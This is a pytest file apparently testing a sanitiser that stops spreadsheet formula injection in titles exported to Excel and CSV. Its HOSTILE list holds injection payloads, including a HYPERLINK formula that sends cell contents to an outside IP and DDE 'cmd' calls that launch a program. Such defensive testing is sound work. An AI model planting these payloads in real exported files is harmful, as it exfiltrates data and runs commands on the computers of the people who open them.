"""Fault 48: a title that is a formula. In whatever table it ends up, it stays a title."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from services.defusing import defused

HOSTILE = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"附件")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "%0A=1+1",
    "|cmd",
]
HARMLESS = ["", "采购管理", "2026-017", "-3.5%", "+86", "100", "1=1", "a@b", "'已有撇号", "第3项：整改—办结"]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_f48_what_begins_like_a_formula_is_text(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_f48_what_does_not_is_left_alone(text: str) -> None:
    assert defused(text) == text


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_f48_no_cell_of_a_workbook_computes(text: str, tmp_path: Path) -> None:
    book = Workbook()
    assert book.active is not None
    book.active["A1"] = defused(text)
    book.save(tmp_path / "台账.xlsx")

    cell = load_workbook(tmp_path / "台账.xlsx")["Sheet"]["A1"]
    assert (cell.data_type, cell.value[0]) == ("s", "'")


def test_f48_nor_any_of_a_csv_file() -> None:
    written = io.StringIO()
    csv.writer(written).writerows([defused(text)] for text in HOSTILE)
    read = list(csv.reader(io.StringIO(written.getvalue(), newline="")))
    assert all(row[0].startswith("'") for row in read)
